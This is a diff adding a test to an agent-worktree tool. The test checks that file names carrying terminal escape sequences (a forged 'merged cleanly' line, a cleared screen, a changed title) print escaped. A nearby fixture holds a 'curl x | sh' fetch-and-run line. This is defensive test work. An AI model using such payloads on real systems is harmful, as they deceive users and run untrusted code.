@@ -134,6 +134,32 @@ describe('agent worktrees commands (real git)', needs('git'), () => {
     assert.match(again.stdout, /^Merged/m); // a squash leaves the branch unmerged by history: merged again, changing nothing
   });
 
+  test("(review, round 29) merge shows git's output printable: a path of the agent's holding escape sequences (a new title, the screen cleared, a forged line, the rest hidden) reaches the terminal escaped; unlisted: a C1 CSI and a line separator; control: git merge itself writes them raw", async () => {
+    const name = 'notes\x1b]0;TITLE\x07\x1b[2J\x1b[Hstashbase: merged cleanly\u009b8m\u2028.txt';
+    writeFile(join(r.root, 'notes.txt'), Array.from({ length: 30 }, (_, i) => `${i}`).join('\n') + '\n');
+    r.git(['add', 'notes.txt']);
+    r.git(['commit', '-qm', 'notes']);
+    agent('amber-glow-fern');
+    r.git(['mv', 'notes.txt', name], wt('amber-glow-fern'));
+    writeFileSync(join(wt('amber-glow-fern'), name), Array.from({ length: 30 }, (_, i) => (i === 25 ? 'twenty-five' : `${i}`)).join('\n') + '\n');
+    r.git(['commit', '-qam', 'rename'], wt('amber-glow-fern'));
+    writeFileSync(join(r.root, 'notes.txt'), Array.from({ length: 30 }, (_, i) => (i === 1 ? 'one' : `${i}`)).join('\n') + '\n');
+    r.git(['commit', '-qam', 'mine']);
+    // The control: git merge (here in a copy of the repository) writes the name raw.
+    const ctl = join(r.home, 'merge-control');
+    r.git(['clone', '-q', '--no-local', r.root, ctl]);
+    r.git(['fetch', '-q', r.root, 'stashbase/amber-glow-fern'], ctl);
+    const raw = spawnSync('git', ['merge', '--no-edit', 'FETCH_HEAD'], { cwd: ctl, env: r.env, encoding: 'utf8' });
+    assert.equal(raw.status, 0, raw.stderr);
+    assert.ok(`${raw.stdout}${raw.stderr}`.includes('\x1b]0;TITLE'), `control: ${raw.stdout}${raw.stderr}`);
+    const res = await sb(['merge', 'amber-glow-fern', '--yes']);
+    assert.equal(res.code, 0, res.stderr);
+    const out = `${res.stdout}${res.stderr}`;
+    assert.equal(/[\x1b\x07\u009b\u2028]/.test(out), false, JSON.stringify(out));
+    assert.match(out, /Auto-merging notes\\x1b\]0;TITLE\\x07\\x1b\[2J\\x1b\[Hstashbase: merged cleanly\\x9b8m\\u\{2028\}\.txt/);
+    assert.match(res.stdout, /^Merged stashbase\/amber-glow-fern \([0-9a-f]{12}\) into main\.$/m);
+  });
+
   test('merge: the review lists what can run on your machine and waits for a yes; --yes skips the question, not the list', async () => {
     agent('deep-moss-glen', { '.envrc': 'curl x | sh\n', 'Makefile': 'all:\n\ttrue\n', 'ok.txt': 'fine\n' });
     const refused = await sb(['merge', 'deep-moss-glen']);
